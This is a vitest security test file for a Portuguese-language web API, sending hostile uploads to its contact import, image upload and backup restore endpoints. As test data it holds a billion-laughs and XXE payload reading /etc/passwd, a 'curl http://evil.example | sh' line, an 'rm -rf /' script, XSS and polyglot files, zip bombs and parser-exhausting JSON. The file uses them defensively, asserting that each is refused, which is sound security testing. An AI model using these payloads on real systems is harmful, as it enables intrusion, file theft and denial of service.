import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKUP_MAX_FILE_MB, backupMsg } from '../../contract/backup';
import { contactsMsg, IMPORT_MAX_FILE_MB } from '../../contract/contacts';
import { msg } from '../../contract/messages';
import { UPLOAD_MAX_BYTES, uploadsMsg } from '../../contract/uploads';
import { NOT_ACCEPTED } from '../media/file-type';
import { listen } from '../testing/raw-http';
import { createTestApp, newCustomer, type TestContext } from '../testing/test-app';
import { buildZip, lyingZipBomb } from '../testing/zip-bomb';

/**
 * Hostile files against every upload of the API (contact import, images, backup restore), over a
 * real socket: each is refused with a 4xx in Portuguese or handled safely, without a hang, with the
 * server's memory bounded (the test server runs in this process, so its memory is ours), and the
 * server answers a simple request afterwards. The probe's lying zip bomb, at the contact import, is
 * in upload-bomb.test.ts; the module tests cover the ordinary refusals through app.inject.
 */
let ctx: TestContext;
let base: string;

beforeAll(async () => {
  ctx = await createTestApp();
  base = `http://127.0.0.1:${await listen(ctx)}`;
}, 60_000);
afterAll(() => ctx.close());

const MB = 1024 * 1024;
/** Generous: the worst accepted case here stays near 200 MB; a leak or an unbounded parse goes far past it. */
const MAX_GROWTH = 300 * MB;
/** A hang, not a speed check: every case answers in a few seconds. */
const CASE_TIMEOUT_MS = 20_000;

type Endpoint = '/api/contacts/import' | '/api/uploads' | '/api/uploads?kind=image' | '/api/backup/restore';

interface Outcome {
  status: number;
  body: { success?: boolean; message?: string; code?: string; imported?: number };
  growth: number;
}

/**
 * Runs one request while watching the process's resident memory: sampled every 5 ms, and the
 * kernel's high-water mark, which also catches a peak while the event loop is blocked.
 */
async function watched(send: (signal: AbortSignal) => Promise<Response>): Promise<Outcome> {
  const before = process.memoryUsage().rss;
  const highBefore = process.resourceUsage().maxRSS * 1024;
  let peak = before;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 5);
  try {
    const res = await send(AbortSignal.timeout(CASE_TIMEOUT_MS));
    const text = await res.text();
    const highAfter = process.resourceUsage().maxRSS * 1024;
    if (highAfter > highBefore) peak = Math.max(peak, highAfter);
    peak = Math.max(peak, process.memoryUsage().rss);
    return { status: res.status, body: JSON.parse(text), growth: peak - before };
  } finally {
    clearInterval(sampler);
  }
}

async function stillServing(): Promise<void> {
  const res = await fetch(`${base}/api/health`, { signal: AbortSignal.timeout(5_000) });
  expect(res.status).toBe(200);
  expect(await res.json()).toEqual({ ok: true });
}

/** A file sent as the browser sends it (FormData, multipart field "file"). */
async function send(endpoint: Endpoint, filename: string, data: Buffer, cookie?: string): Promise<Outcome> {
  const who = cookie ?? (await newCustomer(ctx)).cookie;
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(data)]), filename);
  const outcome = await watched((signal) =>
    fetch(`${base}${endpoint}`, { method: 'POST', body: form, headers: { cookie: who, origin: base }, signal }),
  );
  expect(outcome.growth, `${endpoint} ${filename}: memory`).toBeLessThan(MAX_GROWTH);
  await stillServing();
  return outcome;
}

/**
 * A file of `chunks` MB streamed as it is generated (never held whole by this side), after `head`;
 * chunk boundaries fall on whole megabytes of the file, as each limit does.
 */
async function stream(endpoint: Endpoint, filename: string, head: Buffer, chunks: number): Promise<Outcome> {
  const { cookie } = await newCustomer(ctx);
  const boundary = '----disparo-hostile';
  const encoder = new TextEncoder();
  const outcome = await watched((signal) => {
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 0) {
          controller.enqueue(
            encoder.encode(
              `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
            ),
          );
        }
        if (sent === chunks) {
          controller.enqueue(encoder.encode(`\r\n--${boundary}--\r\n`));
          controller.close();
          return;
        }
        const chunk = new Uint8Array(MB).fill(0x20);
        if (sent === 0) chunk.set(head);
        sent++;
        controller.enqueue(chunk);
      },
    });
    return fetch(`${base}${endpoint}`, {
      method: 'POST',
      body,
      duplex: 'half',
      headers: { cookie, origin: base, 'content-type': `multipart/form-data; boundary=${boundary}` },
      signal,
    } as RequestInit);
  });
  expect(outcome.growth, `${endpoint} streamed: memory`).toBeLessThan(MAX_GROWTH);
  await stillServing();
  return outcome;
}

function expectRefused(outcome: Outcome, status: number, message: string, label = ''): void {
  expect(outcome.status, `${label} ${JSON.stringify(outcome.body)}`).toBe(status);
  expect(outcome.body, label).toMatchObject({ success: false, message });
}

/** Answered without an error status and without importing anything. */
function expectNothingImported(outcome: Outcome, message: string): void {
  expect(outcome.status, JSON.stringify(outcome.body)).toBe(200);
  expect(outcome.body).toMatchObject({ success: false, imported: 0, message });
}

const contactsOf = async (cookie: string) =>
  (await (await fetch(`${base}/api/contacts`, { headers: { cookie } })).json()) as Array<{
    name: string;
    phone: string;
  }>;

// A minimal .xlsx written part by part, so each XML part can be made hostile on its own.

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG = 'http://schemas.openxmlformats.org/package/2006/relationships';

function zipOf(files: Record<string, string | Buffer>): Buffer {
  return buildZip(
    Object.entries(files).map(([name, content]) => {
      const raw = Buffer.isBuffer(content) ? content : Buffer.from(content);
      const data = deflateRawSync(raw);
      const sizes = { method: 8, size: raw.length, compressed: data.length };
      return { name, data, crc: crc32(raw), local: sizes, central: sizes };
    }),
  );
}

function workbook(sheet: string, sharedStrings: string): Buffer {
  return zipOf({
    '[Content_Types].xml':
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
      '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    '_rels/.rels': `<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<workbook xmlns="${MAIN}" xmlns:r="${REL}"><sheets><sheet name="Contatos" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels':
      `<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
      `<Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': sheet,
    'xl/sharedStrings.xml': sharedStrings,
  });
}

const cell = (ref: string, stringIndex: number) => `<c r="${ref}" t="s"><v>${stringIndex}</v></c>`;
/** Nome / Telefone, then one contact: shared strings 0-3. */
const sheet = (before = '', secondRow = `${cell('A2', 2)}${cell('B2', 3)}`) =>
  `<worksheet xmlns="${MAIN}">${before}<sheetData><row r="1">${cell('A1', 0)}${cell('B1', 1)}</row><row r="2">${secondRow}</row></sheetData></worksheet>`;
const strings = (name = 'Ana', extra = '') =>
  `<sst xmlns="${MAIN}"><si><t>Nome</t></si><si><t>Telefone</t></si><si><t>${name}</t></si><si><t>21998765432</t></si>${extra}</sst>`;

const nested = (open: string, close: string, depth: number, inside = '') =>
  `${open.repeat(depth)}${inside}${close.repeat(depth)}`;

/** Nine levels of ten references each: a parser that expands entities makes a billion "lol"s. */
const laughs =
  '<!DOCTYPE lolz [<!ENTITY lol0 "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('') +
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';

describe('contact import: spreadsheets whose XML is hostile', () => {
  it('imports the hand-built workbook itself, so the hostile ones below reach the parser', async () => {
    const { cookie } = await newCustomer(ctx);
    const outcome = await send('/api/contacts/import', 'contatos.xlsx', workbook(sheet(), strings()), cookie);
    expect(outcome.status).toBe(200);
    expect(outcome.body).toMatchObject({ success: true, imported: 1 });
    expect(await contactsOf(cookie)).toMatchObject([{ name: 'Ana', phone: '+5521998765432' }]);
  });

  it('reads 100,000 and 3,000,000 nested elements in sheet1.xml and sharedStrings.xml without harm', async () => {
    const cases: Array<[string, Buffer]> = [
      ['sheet1, unknown part', workbook(sheet(`<extLst>${nested('<ext>', '</ext>', 100_000)}</extLst>`), strings())],
      [
        'sheet1, inline cell',
        workbook(
          sheet(
            '',
            `<c r="A2" t="inlineStr"><is>${nested('<r>', '</r>', 100_000, '<t>Ana</t>')}</is></c>${cell('B2', 3)}`,
          ),
          strings(),
        ),
      ],
      [
        'sharedStrings, rich text runs',
        workbook(sheet(), strings('Ana', `<si>${nested('<r><t>', '</t></r>', 100_000, 'x')}</si>`)),
      ],
      ['sharedStrings, unclosed', workbook(sheet(), strings('Ana', `<si>${'<r>'.repeat(100_000)}</si>`))],
      [
        'sheet1, three million deep',
        workbook(sheet(`<extLst>${nested('<ext>', '</ext>', 3_000_000)}</extLst>`), strings()),
      ],
    ];
    for (const [label, file] of cases) {
      const { cookie } = await newCustomer(ctx);
      const outcome = await send('/api/contacts/import', 'contatos.xlsx', file, cookie);
      expect(outcome.status, `${label}: ${JSON.stringify(outcome.body)}`).toBeLessThan(500);
      if (outcome.status === 200) {
        // Read as a spreadsheet: the one real contact, nothing more.
        expect(outcome.body, label).toMatchObject({ success: true, imported: 1 });
        expect((await contactsOf(cookie)).map((c) => c.phone)).toEqual(['+5521998765432']);
      } else {
        expect(outcome.body.message, label).toMatch(/planilha|arquivo/i);
      }
    }
  }, 120_000);

  it('never expands entities: no billion laughs, no file of the server', async () => {
    const cases: Array<[string, Buffer]> = [
      ['sharedStrings', workbook(sheet(), `<?xml version="1.0"?>${laughs}${strings('&lol9;&xxe;')}`)],
      [
        'sheet1',
        workbook(
          `<?xml version="1.0"?>${laughs}${sheet('', `<c r="A2" t="inlineStr"><is><t>&lol9;&xxe;</t></is></c>${cell('B2', 3)}`)}`,
          strings(),
        ),
      ],
    ];
    for (const [label, file] of cases) {
      const { cookie } = await newCustomer(ctx);
      const outcome = await send('/api/contacts/import', 'contatos.xlsx', file, cookie);
      expect(outcome.status, `${label}: ${JSON.stringify(outcome.body)}`).toBeLessThan(500);
      const stored = await contactsOf(cookie);
      expect(stored.length, label).toBeLessThanOrEqual(1);
      for (const c of stored) {
        expect(c.name.length, label).toBeLessThan(50);
        expect(c.name, label).not.toContain('lollol');
        expect(c.name, label).not.toContain('root:');
      }
    }
  }, 60_000);
});

describe('contact import: files that are not what their name says', () => {
  it('refuses an .xlsx that is an image, a broken zip or a zip without a workbook', async () => {
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64)]);
    const brokenZip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 0xee)]);
    const notWorkbook = zipOf({ 'leia-me.txt': 'nada de planilha aqui', 'script.sh': '#!/bin/sh\nrm -rf /\n' });
    for (const [label, file] of [
      ['png', png],
      ['broken zip', brokenZip],
      ['zip without a workbook', notWorkbook],
    ] as const) {
      expectRefused(await send('/api/contacts/import', 'contatos.xlsx', file), 400, contactsMsg.invalidFile, label);
    }
  });

  it('reads HTML named .xlsx and a JPEG header on text as text, importing nothing from them', async () => {
    const html = Buffer.from('<html><body><script>alert(1)</script><table><tr><td>x</td></tr></table></body></html>');
    expectNothingImported(await send('/api/contacts/import', 'contatos.xlsx', html), contactsMsg.noPhoneColumn);
    const jpegText = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>')]);
    expectNothingImported(await send('/api/contacts/import', 'contatos.csv', jpegText), contactsMsg.noPhoneColumn);
  });
});

describe('contact import: hostile CSV', () => {
  it('takes a million columns on one line, in the header or in a row', async () => {
    const wideHeader = Buffer.from(`Nome;Telefone${';Extra'.repeat(1_000_000)}\nAna;21998765432\n`);
    const wideRow = Buffer.from(`Nome;Telefone\nAna;21998765432${';x'.repeat(1_000_000)}\n`);
    for (const file of [wideHeader, wideRow]) {
      const { cookie } = await newCustomer(ctx);
      const outcome = await send('/api/contacts/import', 'contatos.csv', file, cookie);
      expect(outcome.status).toBe(200);
      expect(outcome.body).toMatchObject({ success: true, imported: 1 });
      expect((await contactsOf(cookie)).map((c) => c.phone)).toEqual(['+5521998765432']);
    }
  });

  it('answers one enormous line without a newline, of letters, digits or an unclosed quote', async () => {
    const size = 24 * MB;
    for (const file of [
      Buffer.alloc(size, 'a'),
      Buffer.alloc(size, '9'),
      Buffer.concat([Buffer.from('Nome;Telefone\n"'), Buffer.alloc(size, 'b')]),
    ]) {
      const outcome = await send('/api/contacts/import', 'contatos.csv', file);
      expect(outcome.status, JSON.stringify(outcome.body)).toBe(200);
      expect(outcome.body).toMatchObject({ success: false, imported: 0 });
      expect(outcome.body.message).toMatch(/Telefone|contatos/);
    }
  }, 60_000);
});

describe('image uploads', () => {
  it('refuses a zip bomb, HTML, a script and an SVG named .png, as a file and as a picture', async () => {
    const files: Array<[string, Buffer]> = [
      ['bomba.png', await lyingZipBomb(50_000_000)],
      ['pagina.png', Buffer.from('<!doctype html><html><script>fetch("/api/backup")</script></html>')],
      ['script.png', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')],
      ['desenho.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ];
    for (const [name, file] of files) {
      // Any file WhatsApp takes is welcome, by its bytes: none of these is one.
      expectRefused(await send('/api/uploads', name, file), 400, NOT_ACCEPTED, name);
      expectRefused(await send('/api/uploads?kind=image', name, file), 400, uploadsMsg.invalidType, name);
    }
  });

  it('serves a JPEG header on HTML only as a JPEG the browser will not run', async () => {
    const { cookie } = await newCustomer(ctx);
    const polyglot = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      Buffer.from('<html><script>alert(1)</script>'),
    ]);
    const outcome = await send('/api/uploads', 'pagina.html', polyglot, cookie);
    expect(outcome.status, JSON.stringify(outcome.body)).toBe(200);
    const { url, fileName, mimeType } = outcome.body as unknown as { url: string; fileName: string; mimeType: string };
    expect(mimeType).toBe('image/jpeg');
    expect(fileName).toBe('pagina.jpg');
    const served = await fetch(`${base}${url}`, { headers: { cookie } });
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('content-disposition')).toMatch(/^inline; filename="pagina\.jpg"/);
  });
});

describe('backup restore', () => {
  const head = '"format":"disparo-backup","version":1,"exportedAt":"2026-01-01T00:00:00.000Z"';
  const backup = (rest: string) => Buffer.from(`{${head},${rest}}`);

  it('refuses a zip bomb, gzip, and an image named .json as not JSON', async () => {
    const files: Array<[string, Buffer]> = [
      ['bomba.json', await lyingZipBomb(50_000_000)],
      ['backup.json', gzipSync(backup('"contacts":[]'))],
      ['backup.json', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(100)])],
    ];
    for (const [name, file] of files) {
      expectRefused(await send('/api/backup/restore', name, file), 400, backupMsg.notJson);
    }
  });

  it('refuses JSON built to exhaust the parser: millions deep, millions of values, millions of keys', async () => {
    const files: Array<[string, Buffer]> = [
      ['twenty million deep', backup(`"contacts":${nested('[', ']', 20_000_000)}`)],
      ['sixteen million empty objects', backup(`"contacts":[${'{},'.repeat(16_000_000)}{}]`)],
      ['twenty-four million numbers', backup(`"contacts":[${'0,'.repeat(24_000_000)}0]`)],
      [
        'two million keys',
        backup(`"settings":{${Array.from({ length: 2_000_000 }, (_, i) => `"k${i}":0`).join(',')}}`),
      ],
    ];
    for (const [label, file] of files) {
      expect(file.length, label).toBeLessThan(BACKUP_MAX_FILE_MB * MB);
      const outcome = await send('/api/backup/restore', 'backup.json', file);
      expect(outcome.status, label).toBe(400);
      expect(outcome.body, label).toMatchObject({ success: false, message: backupMsg.tooComplex });
    }
  }, 120_000);

  it('stops at the first of a million broken items and names it', async () => {
    const files: Array<[string, Buffer, RegExp]> = [
      ['contacts', backup(`"contacts":[${'{},'.repeat(900_000)}{}]`), /contato nº 1,/],
      ['numbers', backup(`"contacts":[${'0,'.repeat(3_000_000)}0]`), /contato nº 1\)/],
      [
        'recipient lines',
        backup(
          `"campaigns":[{"name":"Promo","message":"Oi","status":"completed","createdAt":"2026-01-01T00:00:00.000Z","recipients":[${'{},'.repeat(900_000)}{}]}]`,
        ),
        /campanha nº 1, destinatário nº 1,/,
      ],
    ];
    for (const [label, file, where] of files) {
      const outcome = await send('/api/backup/restore', 'backup.json', file);
      expect(outcome.status, label).toBe(400);
      expect(outcome.body.message, label).toMatch(where);
      expect(outcome.body.message, label).toContain('Nenhum dado foi alterado.');
    }
  }, 60_000);
});

describe('every upload, over its limit', () => {
  const limits: Array<[Endpoint, string, number, number, Buffer, string]> = [
    [
      '/api/contacts/import',
      'contatos.csv',
      IMPORT_MAX_FILE_MB,
      2,
      Buffer.from('Nome;Telefone\n'),
      contactsMsg.fileTooLarge(IMPORT_MAX_FILE_MB),
    ],
    [
      '/api/uploads',
      'foto.png',
      UPLOAD_MAX_BYTES / MB,
      10,
      Buffer.from('89504e470d0a1a0a', 'hex'),
      uploadsMsg.tooLarge,
    ],
    [
      '/api/backup/restore',
      'backup.json',
      BACKUP_MAX_FILE_MB,
      2,
      Buffer.from('{"format":"disparo-backup",'),
      backupMsg.fileTooLarge(BACKUP_MAX_FILE_MB),
    ],
  ];

  for (const [endpoint, name, limitMb, times, start, message] of limits) {
    it(`${endpoint}: refuses ${times}× its ${limitMb} MB with a pt-BR 413, reading it in bounded memory`, async () => {
      expectRefused(await stream(endpoint, name, start, limitMb * times), 413, message);
    }, 60_000);

    it(`${endpoint}: refuses one byte over its ${limitMb} MB`, async () => {
      const file = Buffer.alloc(limitMb * MB + 1, 0x20);
      start.copy(file);
      expectRefused(await send(endpoint, name, file), 413, message);
    }, 60_000);
  }
});

describe('every upload, with a body the multipart reader cannot read', () => {
  const endpoints: Endpoint[] = ['/api/contacts/import', '/api/uploads', '/api/backup/restore'];
  const part =
    '--B\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nNome;Telefone\n\r\n--B--\r\n';
  const bodies: Array<[string, Record<string, string>, Buffer]> = [
    ['no boundary', { 'content-type': 'multipart/form-data' }, Buffer.from(part)],
    ['cut short', { 'content-type': 'multipart/form-data; boundary=B' }, Buffer.from(part.slice(0, 50))],
    [
      'compressed',
      { 'content-type': 'multipart/form-data; boundary=B', 'content-encoding': 'gzip' },
      gzipSync(Buffer.from(part)),
    ],
  ];

  it('answers a pt-BR 400, never a 500', async () => {
    const { cookie } = await newCustomer(ctx);
    for (const endpoint of endpoints) {
      for (const [label, headers, body] of bodies) {
        const outcome = await watched((signal) =>
          fetch(`${base}${endpoint}`, {
            method: 'POST',
            body: new Uint8Array(body),
            headers: { cookie, origin: base, ...headers },
            signal,
          }),
        );
        expect(outcome.status, `${endpoint} ${label}: ${JSON.stringify(outcome.body)}`).toBe(400);
        expect(outcome.body).toMatchObject({ success: false, message: msg.validation.invalidRequest });
      }
    }
    await stillServing();
  });
});
